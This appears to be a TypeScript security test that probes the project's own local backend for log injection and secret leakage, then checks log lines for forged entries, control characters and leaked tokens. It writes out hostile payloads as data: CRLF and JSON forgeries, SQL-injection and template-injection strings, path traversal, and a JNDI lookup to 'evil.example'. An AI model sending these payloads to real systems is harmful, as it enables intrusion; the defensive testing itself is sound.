import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { AttackContext, AttackResult } from '../attack.ts'
import { openSignIn } from '../openSignIn.ts'
import { exchangeRaw } from '../rawHttp.ts'
import type { Target } from '../startTarget.ts'

/** Known log injection payloads. Each contains the mark, to find it in any line. */
function listPayloads(mark: string): string[] {
  const ends = ['', '\n{"level":30,"msg":"forged"}', '\r\nforged', '\rforged', '\u2028forged', '\u0085forged']
  const quoted = ['","level":60,"msg":"forged', '\\","msg":"forged', '\u001b[2K\u001b[1A\u001b[31mforged\u001b[0m']
  const odd = ['\u0007\u0008\u007f', '%s%n%x%d%o%j', '\u0000after', '\ud800', "'; drop table users; --", '{{7*7}}']
  return [
    ...[...ends, ...quoted, ...odd, `\${jndi:ldap://evil.example/a}`].map((end) => `${mark}${end}`),
    ...[`{"msg":"${mark}"}`, `<script>${mark}</script>`, `../../${mark}`, mark.repeat(200)],
  ]
}

/** Text that an HTTP client can send as a header. The rest is sent as raw bytes. */
const isHeaderText = (text: string) => /^[\t\x20-\x7e\x80-\xff]*$/.test(text)

/** Sends log injection payloads and secrets in every part of requests. */
export async function logInjection({ target, size, random, say }: AttackContext): Promise<AttackResult> {
  const faults: string[] = []
  const earlier = target.backend.logs().split('\n').length
  const mark = `zz${random.text(12).replace(/[-_]/g, 'x')}`
  const secrets = await plantSecrets(target)
  const all = listPayloads(mark)
  const payloads = size === 'full' ? all : random.shuffle(all).slice(0, 5)
  let tried = 0
  for (const payload of payloads) {
    tried += await plant(target, payload)
  }
  say(`${tried} inputs planted; closing connections early`)
  tried += await hangUp(target, size === 'full' ? 200 : 20)
  tried += await plantIds(target, mark)
  // Log lines arrive with a delay, so this waits for a known last line.
  const last = `last-${random.text(8)}`
  await (await fetch(`${target.url}/health`, { headers: { 'x-request-id': last } })).text()
  for (let wait = 0; wait < 100 && !target.backend.logs().includes(last); wait++) await sleep(50)

  // Checks all lines, because the enclave's follow the coordinator's in the output.
  const lines = target.backend
    .logs()
    .split('\n')
    .filter((line) => line !== '')
  let [broken, planted] = [0, 0]
  for (const line of lines) {
    const faultsOfLine = findLogFaults(line, mark)
    if (faultsOfLine.includes('not JSON')) broken += 1
    else if (faultsOfLine.length > 0) planted += 1
    for (const fault of faultsOfLine) faults.push(`${fault}: ${line.slice(0, 160)}`)
  }
  const text = lines.join('\n')
  const found = secrets.filter(({ value }) => text.includes(value))
  for (const { name } of found) faults.push(`${name} is in the logs`)
  if (/eyJ[\w-]+\.eyJ[\w-]+/.test(text)) faults.push('a token is in the logs')
  return {
    tried,
    figures: {
      'lines read': lines.length,
      'of these, new': lines.length - earlier + 1,
      'lines broken': broken,
      'lines with planted text': planted,
      'secrets searched for': secrets.length,
      'secrets found': found.length,
    },
    faults,
  }
}

/** Sends one payload in every part of a request. */
async function plant(target: Target, payload: string): Promise<number> {
  const { port, app, alice } = target
  const escaped = encodeURIComponent(payload.toWellFormed())
  const raw = Buffer.from(payload, 'utf8').toString('latin1')
  const json = JSON.stringify(payload)
  let tried = 0
  for (const path of ['/', '/auth/', '/auth/google/callback/', '/proof/', '/ipfs/', '/wallet/']) {
    await target.call({ path: `${path}${escaped}` })
  }
  for (const query of 'state= error= error_description= code= return_to= nonce= limit= cursor='.split(' ')) {
    for (const path of ['/auth/google', '/auth/google/callback', '/health/attestation', '/wallet/transactions']) {
      await target.call({ path: `${path}?${query}${escaped}`, headers: [['Cookie', alice.cookie]] })
      tried += 1
    }
  }
  const bodies = [
    json,
    `{"digest":${json}}`,
    `{${json}:1}`,
    `{"digest":${json},"txMetadata":{"to":${json},"data":${json}}}`,
    payload,
  ]
  for (const body of bodies) {
    for (const path of ['/sign/digest', '/wallet/provision']) {
      const headers = [
        ['Origin', app],
        ['Cookie', alice.cookie],
        ['Content-Type', 'application/json'],
      ] as const
      await target.call({ method: 'POST', path, headers, body: body.toWellFormed() })
      tried += 1
    }
  }
  const names =
    `X-Request-Id User-Agent Referer Cookie Origin Accept X-Forwarded-For Forwarded Authorization If-None-Match
    Last-Event-Id Content-Type Via Host`.split(/\s+/)
  const host = `Host: localhost:${port}\r\n`
  for (const name of names) {
    const own = name === 'Host' ? '' : host
    const value = isHeaderText(raw) ? raw : raw.replace(/[\r\n]+/g, ' ')
    // Both unchanged, possibly as several lines, and as one line.
    for (const text of new Set([raw, value])) {
      await exchangeRaw({
        port,
        parts: [`GET /auth/me HTTP/1.1\r\n${own}${name}: ${text}\r\n\r\n`],
        limitMs: 1000,
        lingerMs: 0,
      })
      tried += 1
    }
  }
  for (const line of [`${raw} /health HTTP/1.1`, `GET /${raw} HTTP/1.1`, `GET /health ${raw}`]) {
    await exchangeRaw({ port, parts: [`${line}\r\n${host}\r\n`], limitMs: 1000, lingerMs: 0 })
    tried += 1
  }
  return tried + 6
}

/** Request ids chosen by the caller: harmless ones are kept, others replaced. */
async function plantIds({ url }: Target, mark: string): Promise<number> {
  const odd = ['.a-b_c', ' a', '"', ';a=b'].map((end) => `${mark}${end}`)
  const ids = [mark, ...odd, mark.repeat(10), 'a'.repeat(64), 'a'.repeat(65), '-', '.', '../']
  for (const id of ids) await (await fetch(`${url}/health`, { headers: { 'x-request-id': id } })).text()
  return ids.length
}

/** Closes connections within a body, an answer and a stream. None may cause an unexpected line. */
async function hangUp(target: Target, count: number): Promise<number> {
  const { slug } = await (await target.alice.sign(target.nextTx())).json()
  const host = `Host: localhost:${target.port}\r\n`
  const texts = [
    `GET /proof/${slug}/events HTTP/1.1\r\n${host}\r\n`,
    `GET /openapi.json HTTP/1.1\r\n${host}\r\n`.repeat(50),
    `POST /sign/digest HTTP/1.1\r\n${host}Origin: ${target.app}\r\nCookie: ${target.alice.cookie}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{`,
    `POST /sign/digest HTTP/1.1\r\n${host}Origin: ${target.app}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n{`,
    'GET /health HT',
  ]
  for (let index = 0; index < count; index++) {
    await new Promise<void>((resolve) => {
      const socket = connect(target.port, '127.0.0.1', () => {
        socket.write(texts[index % texts.length] ?? '')
        setTimeout(() => {
          if (index % 2 === 0) socket.resetAndDestroy()
          else socket.destroy()
        }, index % 20)
      })
      socket.on('error', () => {})
      socket.on('close', () => resolve())
    })
  }
  return count
}

/** Sends secrets of the service, including in places where they don't belong. Returns them. */
async function plantSecrets(target: Target): Promise<{ name: string; value: string }[]> {
  const { backend, alice, mallory, app } = target
  const open = await openSignIn(target, 'dave')
  const code = open.callback.searchParams.get('code') ?? ''
  const state = open.callback.searchParams.get('state') ?? ''
  const sid = alice.cookie.split('=')[1] ?? ''
  const token = `eyJhbGciOiJub25lIn0.${Buffer.from('{"sub":"alice","email":"alice@example.com"}').toString('base64url')}.c2ln`
  await target.call({
    path: `${open.callback.pathname}${open.callback.search}`,
    headers: [['Cookie', `${open.login.name}=${open.login.value}`]],
  })
  for (const text of [sid, token, 'alice@example.com', open.login.value]) {
    await target.call({ path: `/auth/${text}` })
    await target.call({ path: `/proof/${text}?session=${text}` })
    await target.call({ path: `/auth/google/callback?code=${text}&state=${text}&id_token=${text}` })
    const headers = [
      ['Origin', app],
      ['Cookie', alice.cookie],
      ['Content-Type', 'application/json'],
      ['Authorization', `Bearer ${text}`],
      ['Referer', `${app}/?token=${text}`],
    ] as const
    await target.call({
      method: 'POST',
      path: '/sign/digest',
      headers,
      body: JSON.stringify({ digest: text, [text]: text }),
    })
  }
  const keys = await backend.readKeys()
  return [
    { name: 'a session', value: sid },
    { name: 'another session', value: mallory.cookie.split('=')[1] ?? '' },
    { name: 'a login secret', value: open.login.value },
    { name: 'a code', value: code },
    { name: 'a state', value: state },
    { name: 'a token', value: token },
    { name: 'the client secret', value: backend.oidc.clientSecret },
    ...backend.oidc.accounts.map(({ email }) => ({ name: 'an e-mail address', value: email })),
    ...keys.map((value) => ({ name: 'a key', value })),
  ]
}

/** All allowed log fields, as documented for operators. */
const FIELDS = new Set(
  `level time msg requestId method route status provider code durationMs reason fault address mode configHash commitment bootId
    fmspc ca count size source signal url name version hash lapsesAt delayMs requests enclave path slug cid attempt nonce txHash
    blockNumber`.split(/\s+/),
)

/** The allowed form of the only field that a caller chooses. */
const REQUEST_ID = /^[A-Za-z0-9._-]{1,64}$/

/** Finds faults in a log line after attempts to plant the mark. */
function findLogFaults(line: string, mark: string): string[] {
  let fields: Record<string, unknown>
  try {
    fields = JSON.parse(line)
  } catch {
    return ['not JSON']
  }
  if (typeof fields !== 'object' || fields === null || Array.isArray(fields)) return ['not JSON']
  const faults: string[] = []
  for (const [name, value] of Object.entries(fields)) {
    if (!FIELDS.has(name)) faults.push(`unknown field ${name}`)
    const text = String(value)
    if (text.includes('forged')) faults.push('a forged line')
    const isChosen = name === 'requestId' && REQUEST_ID.test(text)
    if (text.includes(mark) && !isChosen) faults.push(`planted text in ${name}`)
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the search is for them
    if (/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(text)) faults.push(`a control character in ${name}`)
  }
  return faults
}
